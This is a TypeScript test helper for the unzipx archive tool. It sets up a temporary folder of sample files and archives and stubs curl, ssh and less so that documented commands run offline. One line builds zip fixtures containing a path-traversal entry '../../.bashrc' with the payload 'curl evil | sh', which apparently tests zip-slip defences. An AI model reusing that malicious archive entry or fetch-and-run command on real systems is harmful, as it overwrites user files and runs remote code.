/** A folder in which the command lines of the documents can be run as they stand there: their archives and inputs, and stand-ins for what they fetch from and send to. */
import { chmodSync, cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { dirname, join } from "node:path";
import { spawnSync } from "node:child_process";
import { buildZip } from "./build.ts";
import { run, temporaryFolder } from "./tools.ts";

const ROOT = join(import.meta.dirname, "../..");

export interface Documented {
  readonly folder: string;
  /** Runs a line in bash; unzipx is the built command. */
  run(line: string): { code: number | null; stdout: string; stderr: string };
}

export function documented(): Documented {
  const top = temporaryFolder();
  const folder = join(top, "work");
  const bin = join(top, "bin");
  const put = (path: string, content: string | Uint8Array): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  };
  const stub = (name: string, script: string): void => {
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, name), `#!/bin/sh\n${script}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  stub("unzipx", `exec '${process.execPath}' '${join(ROOT, "bin/unzipx.js")}' "$@"`);
  stub("curl", 'for url; do :; done; exec cat "$(basename "$url")"'); // what it fetches lies here
  stub("less", "exec cat");
  stub("ssh", 'shift; exec sh -c "$*"');
  const env = { PATH: `${bin}:${process.env["PATH"]}`, HOME: join(top, "home"), UNZIPX_ACCEPT_TERMS: "1", TZ: "UTC" };

  for (const path of ["notes/plan.md", "notes/old.txt", "src/main.c", "src/debug.log", "public/index.html", "album/notes.txt", "notes.txt"]) put(path, `${path}\n`.repeat(200));
  put("src/.gitignore", "*.log\n");
  put("album/summer/beach.jpg", Buffer.from([0xff, 0xd8, 0xff, ...Array<number>(2000).fill(7)]));
  put("album/CAT.JPG", "cat");
  put("album/dog.jpeg", "dog");
  put("album/raw/beach.jpg", "raw");
  put("wanted.txt", "summer/beach.jpg\n");
  put("key.txt", "correct horse\n");
  put("table.csv", "a,b\n");
  const pack = (...words: string[]): void => void run(process.execPath, [join(ROOT, "bin/unzipx.js"), "c", "-q", ...words], { cwd: folder, env: { ...process.env, ...env } });
  pack("photos.zip", "-C", "album", "summer", "raw", "CAT.JPG", "dog.jpeg", "notes.txt");
  for (const name of ["january.zip", "february.zip", "a.zip", "site.zip", "delivery.7z", "release.tgz", "site.tar.gz", "a.tgz", "release.tar.gz", "app.zip"]) pack(name, "notes.txt");
  pack("data.zip", "table.csv");
  pack("source.tar.gz", "src", "--prefix", "project-1.0");
  pack("backup.7z", "-s", "1K", "notes", "src", "album"); // only as backup.7z.001 and so on
  pack("-e", "secret.zip", "notes", "--password-file", "key.txt");
  put("mail/manual.pdf", "%PDF-1.4\n");
  pack("mail/inner.zip", "-C", "mail", "manual.pdf");
  pack("mails.zip", "mail");
  cpSync(join(ROOT, "fixtures/zip/good-shift-jis.zip"), join(folder, "old.zip"));
  for (const name of ["parcel.zip", "mail-attachment.zip", "attachment.zip"]) put(name, buildZip([{ name: "../../.bashrc", content: "curl evil | sh\n" }]));
  const line = (name: string): string => `${createHash("sha256").update(readFileSync(join(folder, name))).digest("hex")}  ${name}\n`;
  put("SHA256SUMS", ["release.tgz", "release.tar.gz", "a.tgz"].map(line).join(""));

  return {
    folder,
    run(command) {
      const { status, stdout, stderr } = spawnSync("bash", ["-c", command], { cwd: folder, env, encoding: "utf8", input: "", maxBuffer: 1 << 26 });
      return { code: status, stdout, stderr };
    },
  };
}
